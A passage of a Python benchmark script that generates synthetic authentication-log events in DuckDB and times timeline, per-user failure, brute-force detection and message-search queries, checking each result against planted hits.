               PARTITION BY src_ip ORDER BY ts
               RANGE BETWEEN INTERVAL {minutes} MINUTES PRECEDING AND CURRENT ROW) AS failures
    FROM events
    WHERE event_type IN ('logon_failure', 'logon_success') AND src_ip IS NOT NULL
)
SELECT src_ip, host, "user", ts AS success_at, failures FROM auth
WHERE event_type = 'logon_success' AND failures >= {n}
ORDER BY success_at, src_ip"""


def brute_force_sql(n: int = BRUTE_N, minutes: int = BRUTE_WINDOW_MIN) -> str:
    """The window query, run only on addresses that can match: any window of ``minutes`` lies
    in two consecutive ``minutes``-long buckets, so an address whose failures in every pair of
    consecutive buckets add up to less than ``n`` cannot match (exact, not a heuristic)."""
    return f"""
WITH buckets AS (
    SELECT src_ip, time_bucket(INTERVAL {minutes} MINUTES, ts) AS b, count(*) AS n FROM events
    WHERE event_type = 'logon_failure' AND src_ip IS NOT NULL GROUP BY ALL
), candidates AS (
    SELECT DISTINCT b1.src_ip FROM buckets b1 LEFT JOIN buckets b2
        ON b2.src_ip = b1.src_ip AND b2.b = b1.b + INTERVAL {minutes} MINUTES
    WHERE b1.n + coalesce(b2.n, 0) >= {n}
), auth AS (
    SELECT ts, host, "user", src_ip, event_type,
           count(*) FILTER (WHERE event_type = 'logon_failure') OVER (
               PARTITION BY src_ip ORDER BY ts
               RANGE BETWEEN INTERVAL {minutes} MINUTES PRECEDING AND CURRENT ROW) AS failures
    FROM events
    WHERE event_type IN ('logon_failure', 'logon_success')
      AND src_ip IN (SELECT src_ip FROM candidates)
)
SELECT src_ip, host, "user", ts AS success_at, failures FROM auth
WHERE event_type = 'logon_success' AND failures >= {n}
ORDER BY success_at, src_ip"""


def brute_force_join_sql(n: int = BRUTE_N, minutes: int = BRUTE_WINDOW_MIN) -> str:
    return f"""
WITH f AS (SELECT src_ip, ts FROM events WHERE event_type = 'logon_failure'),
     s AS (SELECT src_ip, ts, host, "user" FROM events WHERE event_type = 'logon_success')
SELECT s.src_ip, s.host, s."user", s.ts AS success_at, count(*) AS failures
FROM s JOIN f ON f.src_ip = s.src_ip
             AND f.ts BETWEEN s.ts - INTERVAL {minutes} MINUTES AND s.ts
GROUP BY ALL HAVING count(*) >= {n}
ORDER BY success_at, src_ip"""


def queries(meta: dict) -> list[tuple[str, str, list, object]]:
    """(label, sql, params, check(rows) -> problem or None)."""
    t_sql, t_params = TimelineFilter(Q_HOUR, Q_HOUR + timedelta(hours=1),
                                     hosts=(Q_HOST,)).sql(SUMMARY_COLUMNS)
    day_sql = ('SELECT "user", count(*) AS failures FROM events '
               "WHERE ts >= ? AND ts < ? AND event_type = 'logon_failure' "
               "GROUP BY \"user\" ORDER BY failures DESC, \"user\"")
    expected_hits = sorted((h["src_ip"], h["success_us"]) for h in meta["hits"])

    def check_count(expected: int):
        return lambda rows: None if len(rows) == expected else f"{len(rows)} rows, not {expected}"

    def check_day(rows):
        total = sum(r[1] for r in rows)
        return None if total == meta["q2_failures"] else f"{total} failures, not " \
                                                         f"{meta['q2_failures']}"

    def check_hits(rows):
        got = sorted((r[0], (r[3] - START) // timedelta(microseconds=1) + START_US) for r in rows)
        return None if got == expected_hits else f"found {got}, planted {expected_hits}"

    return [
        ("1 timeline: 1 h + host", t_sql, t_params, check_count(meta["q1_rows"])),
        ("2 failures per user, 1 day", day_sql, [Q_DAY, Q_DAY + timedelta(days=1)], check_day),
        ("3 brute force (prefilter+window)", brute_force_sql(), [], check_hits),
        ("3b brute force (window only)", brute_force_window_sql(), [], check_hits),
        ("3c brute force (self-join)", brute_force_join_sql(), [], check_hits),
        ("4 message ILIKE, all rows",
         f"SELECT ts, host, message FROM events WHERE message ILIKE '%{NEEDLE}%' ORDER BY ts",
         [], check_count(meta["needles"])),
    ]


REFERENCE_SQL = "SELECT count(*) FROM events WHERE message IS NOT NULL"


def timed(db: CaseDatabase, sql: str, params: list, runs: int) -> tuple[float, list]:
    db.execute(sql, params)  # warm-up
    times = []
    rows: list = []
    for _ in range(runs):
        t0 = time.perf_counter()
        _, rows = db.execute(sql, params)
        times.append(time.perf_counter() - t0)
    return statistics.median(times), rows


def measure(db_path: Path, meta: dict, runs: int, threads: int | None) -> list[tuple]:
    results = []
    with CaseDatabase(db_path, read_only=True) as db:
        if threads:
            db.execute(f"SET threads = {int(threads)}")
        ref_s, ref_rows = timed(db, REFERENCE_SQL, [], runs)
        results.append(("reference: full scan count", ref_s, ref_rows[0][0], None))
        for label, sql, params, check in queries(meta):
            secs, rows = timed(db, sql, params, runs)
            results.append((label, secs, len(rows), check(rows)))
    return results


# ---------------------------------------------------------------------------------------------
# main


def machine() -> str:
    import duckdb

    cpu = cpu_model()
    return (f"nproc {os.cpu_count()}, CPU {cpu}, Python {platform.python_version()}, "
            f"DuckDB {duckdb.__version__}")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--events", type=int, default=10_000_000, help="rows (default 10M)")
    ap.add_argument("--quick", action="store_true", help="1M rows")
    ap.add_argument("--runs", type=int, default=5, help="timed runs per query (median)")
    ap.add_argument("--threads", type=int, help="SET threads (default: DuckDB's, = cores)")
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 2,
                    help="generator processes")
    ap.add_argument("--rebuild", action="store_true", help="regenerate the database")
    args = ap.parse_args(argv)
    events = 1_000_000 if args.quick else args.events
    folder = OUT / str(events)
    db_path = folder / "events.duckdb"
    meta_path = folder / "meta.json"
    print(machine())
    meta = None
    if not args.rebuild and db_path.exists() and meta_path.exists():
        meta = json.loads(meta_path.read_text())
        if (meta.get("events"), meta.get("seed"), meta.get("version")) != (events, SEED,
                                                                            DATA_VERSION):
            meta = None
    if meta is None:
        folder.mkdir(parents=True, exist_ok=True)
        meta_path.unlink(missing_ok=True)
        print(f"building {events:,} events in {db_path} ...", flush=True)
        meta = build(db_path, events, args.workers)
        meta_path.write_text(json.dumps(meta, indent=1))
        print("built now:")
    else:
        print("reusing the cached database, built earlier:")
    print(f"  generate (Python -> Parquet, {meta['workers']} processes):  "
          f"{meta['generate_s']:7.1f} s  ({meta['events'] / meta['generate_s']:,.0f} rows/s; "
          f"{meta['parquet_files']} files, {meta['parquet_bytes'] / 1e6:,.0f} MB)")
    print(f"  insert_events (with event_uid):         {meta['load_s']:7.1f} s  "
          f"({meta['events'] / meta['load_s']:,.0f} rows/s)")
    print(f"  sort_events:                            {meta['sort_s']:7.1f} s")
    print(f"  database file: {meta['db_bytes'] / 1e6:,.0f} MB, {meta['events']:,} events, "
          f"{meta['hosts']} hosts")
    print()
    results = measure(db_path, meta, args.runs, args.threads)
    ref = results[0][1]
    print(f"queries: median of {args.runs} after 1 warm-up, read-only, threads "
          f"{args.threads or 'default'}; ratio = time / reference full scan")
    print(f"{'query':<34} {'ms':>9} {'ratio':>7} {'rows':>8}  check")
    failed = False
    for label, secs, rows, problem in results:
        check = "-" if label.startswith("reference") else ("ok" if problem is None else problem)
        failed |= problem is not None
        print(f"{label:<34} {secs * 1000:9.1f} {secs / ref:7.2f} {rows:>8,}  {check}")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
